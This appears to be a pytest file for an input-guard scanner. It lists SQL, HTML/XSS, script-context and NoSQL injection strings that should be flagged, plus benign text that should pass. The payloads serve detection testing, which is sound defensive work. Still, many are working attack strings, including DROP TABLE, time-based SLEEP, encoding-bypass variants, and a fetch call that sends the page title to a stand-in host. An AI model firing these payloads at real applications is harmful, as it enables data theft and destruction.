"""What is caught and what is left alone, one behaviour a case; the rates are in test_rates.py."""

import pytest

from bulwark_runtime.input_guard.scan import rules_broken

SQL = [
    "1' OR '1'='1", "1' OR 1=1 -- ", "1 OR 1=1", "1) OR (1=1", "' or ''='", "admin'--", "admin' #",
    "admin'/*", "1' UNION SELECT null,version()-- ", "-1 UNION ALL SELECT 1,2,3", "1'/**/OR/**/1=1#",
    "1'/*!50000UNION*//*!50000SELECT*/1,2-- ", "1' uNiOn\tsElEcT 1-- ", "1; DROP TABLE users",
    "'; EXEC xp_made_up 'x'--", "1'; WAITFOR DELAY '0:0:5'--", "1 AND SLEEP(5)", "1-SLEEP(5)",
    "(SELECT 1 FROM (SELECT(SLEEP(5)))a)", "1' AND ASCII(SUBSTRING((SELECT a FROM b),1,1))>64-- ",
    "1' ORDER BY 5-- ", "1' HAVING 1=1-- ", "1' GROUP BY 1 HAVING 2>1#", "1' && '1", "1' || '1'='1",
    "'||made_up_name(1)||'", "'+(select x from y)+'", "1' LIKE '1", "x' AND 1=(SELECT 1 FROM a)-- ",
    "1`=`1` OR 1=1-- ", '1" OR "a"="a', "1' INTO OUTFILE '/x'-- ", "1' AND x IS NULL-- ",
    "1%27%20OR%201=1--%20", "1%2527%2520OR%25201%253D1--", "1\\u0027 OR 1=1-- ", "1＇ OR 1=1-- ",
    "1&#39; OR 1=1-- ", "1%u0027 or 1=1-- ", "1%c0%a7 or 1=1-- ", "1'+or+1=1--", "1' or 1.e(1)",
    "\\' OR 1=1-- ", "'' OR 1=1-- ", "1$$ OR 1=1-- ", "1*/ OR 1=1-- ", "'-'", "1' or true-- ",
    "x' AND CASE WHEN 1=1 THEN 1 ELSE 0 END-- ", "'; UPDATE t SET a=1 WHERE b=2-- ",
]  # fmt: skip

HTML = [
    "<script>x()</script>", "<SCRIPT/x SRC=//y.example></SCRIPT>", "<img src=x onerror=x()>",
    "<img src=x onerror=x()", "<svg/onload=x()>", "<svg><script>x&#40;1&#41;</script>",
    "<svg><animate onbegin=x() attributeName=y>", "<math href=javascript:x()>y",
    "<a href='java&#x0A;script:x()'>y", "<a href=&#106;avascript:x()>", "<iframe srcdoc='y'>",
    '" onmouseover=x() y="', "' autofocus onfocus=x() y='", "y onfocus=x() autofocus",
    "javascript:x()", " JaVaScRiPt:x`1`", "data:text/html,<script>x()</script>",
    "data:text/html;base64,PHNjcmlwdD5mKCk8L3NjcmlwdD4=", "</title><script>x()</script>",
    '<noscript><p title="</noscript><img src=x onerror=x()>">', "<!--<img src=--><img src=x onerror=x()>",
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=x()&gt;">',
    "<form><button formaction=javascript:x()>", "<object data=//x.example>", "<base href=//x.example>",
    "<meta http-equiv=refresh content='0;url=//x.example'>", "<div style=width:expression(x())>",
    "%3Cscript%3Ex()%3C/script%3E", "\\u003cscript\\u003ex()", "＜script＞x()＜/script＞", "+ADw-script+AD4-x()",
    "[y](javascript:x())", "<x:script xmlns:x='http://www.w3.org/1999/xhtml'>x()</x:script>",
    "{{constructor.constructor('x()')()}}", '<button @click="x()">', "<scr\\x00ipt>x()</script>",
]  # fmt: skip

SCRIPT = [
    "';x()//", "'-x()-'", '"+x()+"', "');x()//", "'});x();//", "\\';x()//", "${x()}", "';location=x;//",
    "'-x`1`-'", "';}x();{'", "'];x();//", "fetch('//x.example/'+document.title)",
]  # fmt: skip

NOSQL = [
    '{"$ne": null}', "{$gt: ''}", "[$ne]=1", "true, $where: '1 == 1'", "', $or: [ {}, { 'a':'a",
    '{"a": {"$regex": "^x"}}', "db.made_up.find({})", "'; return true; var y='", "' || '1'=='1",
]  # fmt: skip


@pytest.mark.parametrize("text", SQL)
def test_sql_is_found(text):
    assert "injection.sql" in rules_broken(text)


@pytest.mark.parametrize("text", HTML)
def test_what_a_browser_would_run_is_found(text):
    assert "injection.html" in rules_broken(text)


@pytest.mark.parametrize("text", SCRIPT)
def test_what_becomes_code_in_a_script_is_found(text):
    assert "injection.script" in rules_broken(text)


@pytest.mark.parametrize("text", NOSQL)
def test_operators_of_document_databases_are_found(text):
    assert {"injection.nosql", "injection.script"} & set(rules_broken(text))


@pytest.mark.parametrize("name", ["$ne", "$where", "a[$ne]", "a.$gt", "[$regex]"])
def test_operators_in_names_are_found(name):
    assert "injection.nosql" in rules_broken(name, is_name=True)


HONEST = [
    "O'Brien", "D'Angelo-O'Neill", "Rock 'n' Roll", "the drivers' and riders' insurance", "'t Hart",
    "please select the drop off from table 5; or update me by noon", "Union Select Insurance",
    "SELECT committee and UNION members", "Drop Table Tennis Club", "5'10\" or 6' tall", '12" x 8"',
    "2+2=4 and 3 > 2", "a < b and c > d", "Smith & Sons -- est. 1952", "I <3 you", "AT&T", "50% = half",
    "it's 50, isn't it? or = 55 with tip", "cash or card; 1 or 2 nights", "#1 choice -- thanks!",
    "C:\\Users\\anna\\a.pdf", "anna.o'hara+bank@example.com", "https://example.org/a?b=c&d=e%20f#g",
    "JavaScript: the good parts (2nd edition)", "Dear {{name}}, we've got {{amount}}",
    "Use `a` - `b`; [the page](https://example.com/a_(b)?c=d) and ![logo](a.png)",
    "I'd like <b>two</b> cards<br>and a <i>PIN</i>", "| a | b |\n|---|---|\n| 'c' | 4 |", "$5 & $10",
    "c'è l'IVA = 22%; un'ora", "м'ята, сім'я = 5", "L'été, c'est l'heure (n'est-ce pas?)", "١٢ > ١١",
    "script for the play; on click of the camera; onload = Friday", "fee(s), child(ren)", "if(possible)",
    "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36", "application/json, text/plain, */*;q=0.8",
    'W/"33a64df5"', "en-US,en;q=0.5", "Bearer eyJhbGciOiJSUzI1NiJ9.eyJzdWIiOiIxIn0.c2ln", "[x] paid",
    "iVBORw0KGgoAAAANSUhEUgAAAAUAAAAFCAYAAACNbyblAAAAHElEQVQI12P4//8/w38GIAXDIBKE0DHxgljNBAAO9TXL0Y4OHwAAAABJRU5ErkJggg==",
]  # fmt: skip


@pytest.mark.parametrize("text", HONEST)
def test_honest_text_passes(text):
    assert rules_broken(text) == []
